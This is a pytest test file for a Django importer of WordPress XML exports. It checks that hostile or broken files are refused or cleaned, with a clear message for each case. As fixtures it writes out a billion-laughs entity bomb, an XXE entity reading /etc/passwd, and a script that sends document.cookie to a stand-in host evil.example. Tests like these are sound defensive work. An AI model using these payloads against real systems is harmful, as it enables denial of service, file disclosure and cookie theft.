"""Bad and hostile exports: a clear message, per post where the file allows it, and nothing else lost."""

import pytest
from django.core.management import CommandError

from content.models import Post
from tests.wpimport import exports

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>&lol4;</title>
<wp:post_type>post</wp:post_type></item></channel></rss>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>&secret;</title>
<wp:post_type>post</wp:post_type></item></channel></rss>
"""


@pytest.mark.parametrize("text, what", [(BILLION_LAUGHS, "a document type declaration (DTD)"),
                                        (EXTERNAL_ENTITY, "a document type declaration (DTD)")])
def test_export_with_entities_is_refused_whole(tmp_path, run_import, text, what):
    path = exports.write(tmp_path, text)

    with pytest.raises(CommandError) as refused:
        run_import(path)

    assert str(refused.value).startswith(f"Nothing was imported. The file contains {what}.")
    assert not Post.objects.exists()


def test_entity_declared_after_a_broken_item_is_still_refused(tmp_path, run_import):
    text = exports.export(exports.post(1, "One", "Fine."), "<item><title>broken & open</title></item>")
    path = exports.write(tmp_path, text.replace("<channel>", '<!DOCTYPE x [<!ENTITY a "b">]><channel>', 1))

    with pytest.raises(CommandError, match="Nothing was imported"):
        run_import(path)


def test_export_over_the_size_limit_is_refused_before_reading(tmp_path, run_import):
    path = exports.write(tmp_path, exports.export(exports.post(1, "One", "x" * 20_000)))

    with pytest.raises(CommandError, match=r"is 0 MB; the limit is 0.01 MB\. Split the export"):
        run_import(path, "--max-megabytes", "0.01")
    assert not Post.objects.exists()


@pytest.mark.parametrize("text", ["", "not xml at all", "<html><body>A web page</body></html>",
                                  "\x89PNG\r\n\x1a\n\x00\x00"])
def test_file_that_is_no_export_is_refused_with_a_sentence(tmp_path, run_import, text):
    path = exports.write(tmp_path, text)

    with pytest.raises(CommandError, match="Nothing was imported. .*(empty|not a WordPress export|no post could be read)"):
        run_import(path)


def test_missing_file_is_refused_with_a_sentence(tmp_path, run_import):
    with pytest.raises(CommandError, match="Nothing was imported. Cannot open"):
        run_import(tmp_path / "nowhere.xml")


def test_malformed_item_costs_that_item_alone(tmp_path, run_import):
    broken = exports.post(2, "Broken", "x").replace("<title><![CDATA[Broken]]></title>", "<title>Fish & chips</title>")
    path = exports.write(tmp_path, exports.export(exports.post(1, "One", "Fine."), broken,
                                                  exports.post(3, "Three", "Also fine.")))

    out, err = run_import(path)

    assert set(Post.objects.values_list("slug", flat=True)) == {"one", "three"}
    assert "The file is not well-formed XML (line" in err
    assert "Item at line" in err and "('Fish & chips') could not be read: not well-formed XML" in err
    assert "Imported 2 post(s)" in out and "1 unreadable" in out


def test_control_character_in_a_post_costs_that_post_alone(tmp_path, run_import):
    path = exports.write(tmp_path, exports.export(exports.post(1, "One", "Fine."),
                                                  exports.post(2, "Two", "Bad \x0b byte"),
                                                  exports.post(3, "Three", "Also fine.")))

    out, _ = run_import(path)

    assert set(Post.objects.values_list("slug", flat=True)) == {"one", "three"}


def test_script_and_iframe_in_a_post_are_removed_and_named(tmp_path, run_import):
    content = ('<p>Safe words.</p><script>document.location="https://evil.example/?"+document.cookie</script>'
               '<iframe src="https://evil.example/frame"></iframe><p onclick="steal()">Click <a href="javascript:x()">'
               'here</a>.</p><p style="display:none">Buy pills</p>')
    path = exports.write(tmp_path, exports.export(exports.post(1, "One", content)))

    out, _ = run_import(path)

    revision = Post.objects.get().current_revision
    assert revision.body == "Safe words.\n\nClick here.\n\nBuy pills"
    assert "<script" not in revision.html and "evil.example" not in revision.html
    assert "Removed <script>: it would make readers' browsers load or run what nobody signed." in out
    assert "Removed <iframe> (https://evil.example/frame)" in out
    assert "Removed <p style>: the site styles articles, and a style can hide words." in out
    assert "Removed the link to javascript:x(): only http, https, mailto, tel links are kept; its text stays." in out


def test_bad_date_is_reported_and_the_post_imported(tmp_path, run_import):
    path = exports.write(tmp_path, exports.export(exports.post(1, "One", "Fine.", date="2019-13-45 99:00:00",
                                                               pub_date="yesterday-ish")))

    out, _ = run_import(path)

    assert Post.objects.get().wordpress_origin.published_on_old_site is None
    assert "The date “2019-13-45 99:00:00” is not a date; the old publication date was not kept." in out


def test_post_too_long_for_a_body_fails_alone_with_the_reason(tmp_path, run_import, settings):
    settings.MAX_BODY_BYTES = 2000
    path = exports.write(tmp_path, exports.export(exports.post(1, "Long", "word " * 1000),
                                                  exports.post(2, "Short", "Fine.")))

    out, err = run_import(path)

    assert list(Post.objects.values_list("slug", flat=True)) == ["short"]
    assert "FAILED: Long (WordPress 1)" in err and "body: The body is 4 KB; the limit is 1 KB." in err
    assert "Imported 1 post(s)" in out and "1 failed" in out


def test_post_without_guid_or_id_is_not_imported(tmp_path, run_import):
    item = exports.post(1, "One", "Fine.", guid="").replace("<wp:post_id>1</wp:post_id>", "")

    out, err = run_import(exports.write(tmp_path, exports.export(item)))

    assert not Post.objects.exists()
    assert "neither a GUID nor a post id" in err


def test_unknown_shortcodes_and_gallery_are_named_not_shown(tmp_path, run_import):
    content = 'Book now. [contact-form-7 id="12" title="Booking"]\n\n[gallery ids="45,46"]\n\nText [sic] stays.'
    path = exports.write(tmp_path, exports.export(exports.attachment(45, "2019/05/a.jpg", alt="A"),
                                                  exports.post(1, "One", content)))

    out, _ = run_import(path, "--media", exports.media(tmp_path, "2019/05/a.jpg"))

    body = Post.objects.get().current_revision.body
    assert "contact-form" not in body and "gallery" not in body and "[sic]" in body.replace("\\", "")
    assert 'WordPress shortcode [contact-form-7] was removed: [contact-form-7 id="12" title="Booking"]' in out
    assert "A gallery of 2 picture(s) became the pictures one after another; 1 of them are not in the export." in out


def test_export_cut_off_in_the_middle_keeps_every_whole_post(tmp_path, run_import):
    text = exports.export(exports.post(1, "One", "Fine."), exports.post(2, "Two", "Also fine."),
                          exports.post(3, "Three", "Cut off here"))
    path = exports.write(tmp_path, text[:text.index("Cut off here")])

    out, err = run_import(path)

    assert set(Post.objects.values_list("slug", flat=True)) == {"one", "two"}
    assert "('Three') could not be read: the item has no end (the file stops inside it)." in err
    assert "Imported 2 post(s)" in out and "1 unreadable" in out
